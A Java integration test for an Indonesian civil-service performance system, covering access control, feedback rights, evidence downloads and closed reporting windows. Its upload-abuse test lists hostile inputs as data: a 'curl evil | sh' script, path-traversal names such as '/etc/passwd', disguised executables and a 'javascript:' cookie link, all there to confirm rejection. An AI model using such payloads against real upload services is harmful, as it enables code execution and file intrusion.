package id.ekinerja.systemtest;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import id.ekinerja.application.pelaksanaan.EvidenceDownload;
import id.ekinerja.application.pelaksanaan.PelaksanaanService;
import id.ekinerja.application.pelaksanaan.PelaksanaanView;
import id.ekinerja.application.security.AccessDeniedException;
import id.ekinerja.application.security.Actor;
import id.ekinerja.application.skp.SkpDocument;
import id.ekinerja.application.skp.SkpService;
import id.ekinerja.domain.model.pelaksanaan.EvidenceFile;
import id.ekinerja.domain.model.pelaksanaan.EvidenceRejectedException;
import id.ekinerja.domain.model.skp.SkpException;
import id.ekinerja.domain.model.skp.WindowClosedException;
import id.ekinerja.infrastructure.tenancy.TenantContext;
import id.ekinerja.tenantconfig.CoreValue;
import jakarta.ejb.EJB;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.UUID;
import java.util.function.Supplier;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.shrinkwrap.api.spec.EnterpriseArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/**
 * Pelaksanaan against the real server and database, in bawaslu-lebong: Hartini (PPK Sugeng, whose PPK is the
 * top leader Zulkarnain) documents her work in the open November 2026 window (the agency evaluates monthly;
 * September closed on 10 October); Eka is admin instansi, Mella pengelola kinerja, Dodi an unrelated colleague.
 */
@ExtendWith(ArquillianExtension.class)
class PelaksanaanIT {
    private static final String BAWASLU = "bawaslu-lebong";
    private static final int YEAR = 2026;
    private static final Actor HARTINI = new Actor("198905252014032002");
    private static final Actor SUGENG = new Actor("198306112008121002");    // Hartini's PPK
    private static final Actor ZULKARNAIN = new Actor("197609152002121003"); // Sugeng's PPK: Hartini's atasan PPK
    private static final Actor EKA = new Actor("198401282009032002");       // admin instansi
    private static final Actor MELLA = new Actor("199603032022042001");     // pengelola kinerja, not admin instansi
    private static final Actor DODI = new Actor("199212192019031004");      // a colleague outside Hartini's line
    private static final Actor RATNA_KPU = new Actor("198511172009042001"); // kpu-dki admin instansi

    @Deployment
    static EnterpriseArchive deployment() {
        return Deployments.ekinerja(PelaksanaanIT.class, PelaksanaanProbe.class, ApprovedSkps.class);
    }

    @EJB
    PelaksanaanService pelaksanaan;

    @EJB
    SkpService skp;

    @EJB
    PelaksanaanProbe probe;

    private long rhk;
    private long november;
    private long september;

    @BeforeEach
    void hartiniHasAnApprovedSkp() {
        SkpDocument approved = ApprovedSkps.ensure(skp, BAWASLU, HARTINI, SUGENG, YEAR, "Terlaksananya pengawasan tahapan pemilu");
        rhk = approved.utama().get(0).id();
        november = probe.windowId(BAWASLU, YEAR, "MONTH", 11);
        september = probe.windowId(BAWASLU, YEAR, "MONTH", 9);
    }

    @Test
    void onlyTheOwnerRecordsTheWorkAndEveryChangeIsLogged() {
        String realisasi = "Mengawasi 4 rapat pleno " + UUID.randomUUID();
        long aksi = in(() -> pelaksanaan.addRencanaAksi(HARTINI, rhk, november, "Menghadiri rapat pleno rekapitulasi"));
        in(() -> {
            pelaksanaan.saveRealisasi(HARTINI, rhk, november, realisasi);
            return null;
        });
        long link = in(() -> pelaksanaan.addLink(HARTINI, rhk, november, "https://lebong.bawaslu.go.id/berita/pleno"));

        assertDenied("pel.access.notOwner", () -> {
            pelaksanaan.saveRealisasi(SUGENG, rhk, november, "Ditimpa oleh PPK");
            return null;
        });
        assertDenied("pel.access.notOwner", () -> pelaksanaan.uploadBukti(EKA, rhk, november, "a.pdf", uniquePdf()));
        assertDenied("pel.access.notOwner", () -> pelaksanaan.addRencanaAksi(ZULKARNAIN, rhk, november, "Disusupkan"));
        assertDenied("pel.access.notOwner", () -> {
            pelaksanaan.deleteBukti(DODI, link);
            return null;
        });

        PelaksanaanView mine = in(() -> pelaksanaan.view(HARTINI, null, november));
        assertTrue(mine.canWrite());
        assertFalse(mine.canGiveFeedback());
        PelaksanaanView.RhkWork work = mine.rhk().stream().filter(r -> r.rhkId() == rhk).findFirst().orElseThrow();
        assertEquals(realisasi, work.realisasi(), "the owner's text stands; the PPK's attempt changed nothing");
        assertTrue(work.rencanaAksi().stream().anyMatch(a -> a.id() == aksi));
        assertTrue(work.bukti().stream().anyMatch(b -> b.id() == link && !b.file()));

        assertTrue(probe.activity(BAWASLU, "pel_rencana_aksi", aksi).get(0).startsWith("PEL_RENCANA_AKSI_ADD by " + HARTINI.username()));
        assertTrue(probe.activity(BAWASLU, "pel_bukti", link).get(0).contains("https://lebong.bawaslu.go.id/berita/pleno"));
    }

    @Test
    void onlyThePpkOfRecordGivesFeedbackAndThePegawaiSeesIt() {
        String text = "Laporan pengawasan sudah rinci; lampirkan foto kegiatan " + UUID.randomUUID();
        assertDenied("pel.access.notPpk", () -> pelaksanaan.giveFeedback(HARTINI, HARTINI.username(), november, rhk, null, "Sendiri"));
        assertDenied("pel.access.notPpk", () -> pelaksanaan.giveFeedback(ZULKARNAIN, HARTINI.username(), november, rhk, null, "Atasan PPK"));
        assertDenied("pel.access.notPpk", () -> pelaksanaan.giveFeedback(EKA, HARTINI.username(), november, rhk, null, "Admin"));

        long onRhk = in(() -> pelaksanaan.giveFeedback(SUGENG, HARTINI.username(), november, rhk, null, text));
        long onValue = in(() -> pelaksanaan.giveFeedback(SUGENG, HARTINI.username(), november, null, CoreValue.KOLABORATIF,
                "Koordinasi dengan panwascam berjalan baik"));
        assertThrows(SkpException.class, () -> in(() -> pelaksanaan.giveFeedback(SUGENG, HARTINI.username(), november, null, null, "x")));

        PelaksanaanView seen = in(() -> pelaksanaan.view(HARTINI, null, november));
        assertTrue(seen.rhk().stream().flatMap(r -> r.feedback().stream()).anyMatch(f -> f.id() == onRhk
                && f.text().equals(text) && f.byName().equals("Sugeng Riyadi")));
        assertTrue(seen.perilaku().stream().filter(p -> p.coreValue().equals("KOLABORATIF")).findFirst().orElseThrow()
                .feedback().stream().anyMatch(f -> f.id() == onValue));
        PelaksanaanView ppkView = in(() -> pelaksanaan.view(SUGENG, HARTINI.username(), november));
        assertTrue(ppkView.canGiveFeedback());
        assertFalse(ppkView.canWrite());
        assertTrue(probe.activity(BAWASLU, "pel_umpan_balik", onRhk).get(0).startsWith("PEL_FEEDBACK by " + SUGENG.username()));
    }

    @Test
    void evidenceIsReadByTheOwnerThePpkTheAtasanPpkAndTheAdminInstansiOnly() {
        byte[] pdf = uniquePdf();
        long id = in(() -> pelaksanaan.uploadBukti(HARTINI, rhk, november, "Laporan pengawasan.pdf", pdf));
        for (Actor allowed : List.of(HARTINI, SUGENG, ZULKARNAIN, EKA)) {
            EvidenceDownload d = in(() -> pelaksanaan.download(allowed, id)).orElseThrow();
            assertArrayEquals(pdf, d.content(), allowed.username());
            assertEquals("application/pdf", d.mediaType());
            assertEquals(EvidenceFile.sha256(pdf), d.sha256());
            assertEquals("Laporan pengawasan.pdf", d.fileName());
        }
        assertDenied("pel.access.denied", () -> pelaksanaan.download(DODI, id));
        assertDenied("pel.access.denied", () -> pelaksanaan.download(MELLA, id));
        assertDenied("pel.access.denied", () -> pelaksanaan.view(DODI, HARTINI.username(), november));

        // the same id asked for inside another agency never reaches this agency's file
        Optional<EvidenceDownload> foreign = TenantContext.call("kpu-dki", () -> pelaksanaan.download(RATNA_KPU, id));
        assertTrue(foreign.isEmpty() || !foreign.get().sha256().equals(EvidenceFile.sha256(pdf)));
        assertEquals(Optional.empty(), in(() -> pelaksanaan.download(EKA, Long.MAX_VALUE)));
        assertTrue(probe.activity(BAWASLU, "pel_bukti", id).stream().anyMatch(l -> l.startsWith("PEL_BUKTI_DOWNLOAD by " + ZULKARNAIN.username())));
    }

    @Test
    void aClosedWindowRefusesWritesSayingWhenItClosedAndKeepsWhatWasSaved() {
        long[] before = probe.evidenceRows(BAWASLU);
        WindowClosedException closed = assertThrows(WindowClosedException.class, () -> in(() -> {
            pelaksanaan.saveRealisasi(HARTINI, rhk, september, "Terlambat");
            return null;
        }));
        assertEquals("window.closed", closed.messageKey());
        assertEquals("September 2026", closed.args()[0]);
        assertEquals(LocalDate.of(2026, 10, 10), closed.args()[1]);
        assertThrows(WindowClosedException.class, () -> in(() -> pelaksanaan.uploadBukti(HARTINI, rhk, september, "a.pdf", uniquePdf())));
        assertThrows(WindowClosedException.class, () -> in(() -> pelaksanaan.giveFeedback(SUGENG, HARTINI.username(), september, rhk, null, "x")));
        assertArrayEquals(before, probe.evidenceRows(BAWASLU));
        PelaksanaanView septemberView = in(() -> pelaksanaan.view(HARTINI, null, september));
        assertFalse(septemberView.canWrite());
        assertEquals("window.closed", septemberView.closedKey());
    }

    @Test
    void uploadAbuseIsRefusedWithAClearReasonAndStoresNothing() {
        byte[] oversized = Arrays.copyOf(uniquePdf(), (int) EvidenceFile.DEFAULT_MAX_BYTES + 1);
        record Abuse(String name, byte[] bytes, String key) {
        }
        List<Abuse> abuses = List.of(
                new Abuse("kosong.pdf", new byte[0], "pel.error.fileEmpty"),
                new Abuse("besar.pdf", oversized, "pel.error.fileTooLarge"),
                new Abuse("laporan.pdf", "MZ\u0090\u0000\u0003\u0000\u0000\u0000This program cannot be run in DOS mode"
                        .getBytes(StandardCharsets.ISO_8859_1), "pel.error.executable"),
                new Abuse("foto.jpg", "\u007fELF\u0002\u0001\u0001".getBytes(StandardCharsets.ISO_8859_1), "pel.error.executable"),
                new Abuse("catatan.docx", "#!/bin/sh\ncurl evil | sh\n".getBytes(StandardCharsets.ISO_8859_1), "pel.error.executable"),
                new Abuse("../../standalone/deployments/x.pdf", uniquePdf(), "pel.error.fileNamePath"),
                new Abuse("C:\\Users\\hartini\\laporan.pdf", uniquePdf(), "pel.error.fileNamePath"),
                new Abuse("/etc/passwd", uniquePdf(), "pel.error.fileNamePath"),
                new Abuse("catatan.txt", "teks biasa".getBytes(StandardCharsets.UTF_8), "pel.error.fileType"));
        long[] before = probe.evidenceRows(BAWASLU);
        for (Abuse a : abuses) {
            EvidenceRejectedException e = assertThrows(EvidenceRejectedException.class,
                    () -> in(() -> pelaksanaan.uploadBukti(HARTINI, rhk, november, a.name(), a.bytes())), a.name());
            assertEquals(a.key(), e.messageKey(), a.name());
            assertArrayEquals(before, probe.evidenceRows(BAWASLU), "nothing stored for " + a.name());
        }
        assertEquals("pel.error.linkInvalid", assertThrows(EvidenceRejectedException.class,
                () -> in(() -> pelaksanaan.addLink(HARTINI, rhk, november, "javascript:alert(document.cookie)"))).messageKey());
        assertArrayEquals(before, probe.evidenceRows(BAWASLU));

        in(() -> pelaksanaan.uploadBukti(HARTINI, rhk, november, "Foto kegiatan.pdf", uniquePdf()));
        long[] after = probe.evidenceRows(BAWASLU);
        assertEquals(before[0] + 1, after[0]);
        assertEquals(before[1] + 1, after[1]);
        assertNotEquals(0, after[1]);
    }

    private static byte[] uniquePdf() {
        return ("%PDF-1.4\n% " + UUID.randomUUID() + "\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n")
                .getBytes(StandardCharsets.US_ASCII);
    }

    private static <T> T in(Supplier<T> call) {
        return TenantContext.call(BAWASLU, call);
    }

    private static void assertDenied(String key, Supplier<?> call) {
        AccessDeniedException e = assertThrows(AccessDeniedException.class, () -> in(call));
        assertEquals(key, e.messageKey());
    }
}
